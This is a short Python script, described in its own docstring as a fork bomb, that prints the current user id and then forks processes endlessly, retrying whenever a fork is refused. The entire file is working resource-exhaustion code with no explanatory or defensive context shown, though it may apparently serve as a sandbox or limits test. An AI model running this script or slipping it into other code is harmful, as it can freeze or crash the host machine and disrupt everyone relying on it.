"""A fork bomb: every process forks for ever; refused forks are retried."""

import os
import time

print(os.getuid(), flush=True)
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
